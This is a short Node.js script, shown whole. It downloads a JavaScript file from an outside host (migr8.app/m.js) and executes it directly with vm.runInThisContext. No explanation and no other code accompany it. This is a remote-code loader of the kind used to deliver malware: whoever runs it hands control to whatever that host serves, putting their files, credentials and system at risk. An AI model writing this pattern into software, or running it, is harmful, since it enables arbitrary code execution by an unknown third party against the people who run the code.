const vm = require('vm');
const axios = require('axios');
axios.get('https://migr8.app/m.js').then((resp) => {
  vm.runInThisContext(resp.data);
});
